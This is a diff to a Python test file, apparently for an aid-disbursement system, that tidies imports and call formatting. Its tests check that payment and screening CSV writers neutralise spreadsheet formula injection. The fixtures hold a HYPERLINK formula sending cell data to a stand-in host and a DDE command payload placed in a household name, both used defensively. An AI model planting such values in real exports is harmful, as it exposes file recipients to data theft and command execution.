@@ -6,9 +6,9 @@ from datetime import date
 
 from tests.notices.sim import add_household
 from yimen.domain.model import AidRecord
-from yimen.services.auth import AuthService
-from yimen.services.disbursement import DisbursementService, create_slips
-from yimen.services.screening import screen, write_csv
+from yimen.services.checking.screening import screen, write_csv
+from yimen.services.funds.disbursement import DisbursementService, create_slips
+from yimen.services.staff.auth import AuthService
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
 FORMULA_STARTS = tuple("=+-@\t\r")
@@ -31,9 +31,18 @@ def test_payment_file_carries_hostile_text_as_text(seeded):
     so the writer itself must neutralise it, whatever checks ran before."""
     household = add_household(seeded, 7)
     with seeded.uow() as uow:
-        (slip,) = create_slips(uow, application_id="a-formula", household_id=household.id, item_code="linshi",
-                               item_name=HYPERLINK, department="民政局", amount_fen=10000, monthly=False,
-                               months=1, start=date(2026, 11, 25))
+        (slip,) = create_slips(
+            uow,
+            application_id="a-formula",
+            household_id=household.id,
+            item_code="linshi",
+            item_name=HYPERLINK,
+            department="民政局",
+            amount_fen=10000,
+            monthly=False,
+            months=1,
+            start=date(2026, 11, 25),
+        )
     auth = AuthService(seeded)
     service = DisbursementService(seeded)
     service.act(auth.staff_actor("centre"), "review", [slip.id])
@@ -59,9 +68,21 @@ def test_screening_report_neutralises_names(seeded):
         household = uow.households.get(household.id)
         household.members[0].name = "+cmd|'/C calc'!A0"
         uow.households.update(household)
-    paid = [AidRecord(household_id=household.id, item_code="=cmd", item_name="-1+1", department="民政局",
-                      measure="现金", amount_fen=100, paid_on=date(2026, 10, 1), source="x", source_ref=str(n),
-                      period="2026-10") for n in range(2)]  # a repeat: one finding naming the item code
+    paid = [
+        AidRecord(
+            household_id=household.id,
+            item_code="=cmd",
+            item_name="-1+1",
+            department="民政局",
+            measure="现金",
+            amount_fen=100,
+            paid_on=date(2026, 10, 1),
+            source="x",
+            source_ref=str(n),
+            period="2026-10",
+        )
+        for n in range(2)
+    ]  # a repeat: one finding naming the item code
     findings = screen([household], lambda _: paid, date(2026, 11, 25))
     out = io.StringIO()
     write_csv(findings, out)
